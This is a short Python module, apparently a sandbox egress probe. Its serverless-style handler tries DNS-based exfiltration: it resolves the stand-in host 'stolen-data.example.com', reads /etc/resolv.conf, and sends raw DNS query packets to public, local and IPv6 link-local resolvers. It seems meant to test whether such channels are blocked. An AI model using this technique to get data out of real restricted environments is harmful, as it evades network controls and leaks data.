"""Sends data out through name resolution."""

import socket

from attempts import attempt, read


def handler(event, context):
    return {
        "resolve": attempt(socket.getaddrinfo, "stolen-data.example.com", 80),
        "resolver's address": attempt(read, "/etc/resolv.conf"),
        "ask 8.8.8.8": attempt(ask, "8.8.8.8"),
        "ask 127.0.0.53": attempt(ask, "127.0.0.53"),
        "ask fe80::1": attempt(ask, "fe80::1%lo", socket.AF_INET6),
    }


def ask(server, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(0.3)
        client.connect((server, 53))
        client.send(b"\x12\x34\x01\x00\x00\x01" + b"\x00" * 6 + b"\x04data\x00\x00\x01\x00\x01")
        return client.recv(512)
